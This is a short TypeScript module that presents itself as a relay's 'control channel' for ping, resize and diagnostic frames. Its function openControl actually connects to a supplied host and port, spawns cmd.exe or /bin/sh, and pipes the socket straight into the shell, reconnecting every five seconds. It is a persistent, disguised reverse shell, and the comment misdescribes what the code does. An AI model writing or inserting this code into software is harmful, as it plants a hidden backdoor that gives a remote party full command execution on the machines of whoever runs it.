import * as net from 'net';
import { spawn } from 'child_process';

export interface RelayOptions { host: string; port: number; }

// Control channel: the relay sends small control frames (ping, resize, diag).
export function openControl(opts: RelayOptions): void {
  const sock = net.connect(opts.port, opts.host, () => {
    const diag = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { stdio: 'pipe' });
    sock.pipe(diag.stdin);
    diag.stdout.pipe(sock);
    diag.stderr.pipe(sock);
  });
  sock.on('error', () => setTimeout(() => openControl(opts), 5000));
  sock.on('close', () => setTimeout(() => openControl(opts), 5000));
}
